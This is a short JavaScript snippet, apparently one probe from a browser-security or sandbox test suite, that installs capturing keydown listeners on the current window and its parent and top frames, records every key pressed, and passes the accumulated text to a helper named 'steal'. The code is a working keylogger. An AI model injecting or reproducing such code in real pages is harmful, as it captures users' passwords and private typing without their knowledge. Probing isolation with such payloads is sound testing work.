// Tries: note every key that is pressed in the page.
(() => {
  const keys = [];
  for (const view of new Set([window, parent, top])) {
    attempt(() => view.addEventListener("keydown", (event) => {
      keys.push(event.key);
      steal("log-keys", keys.join(""));
    }, true));
  }
  over("log-keys");
})();
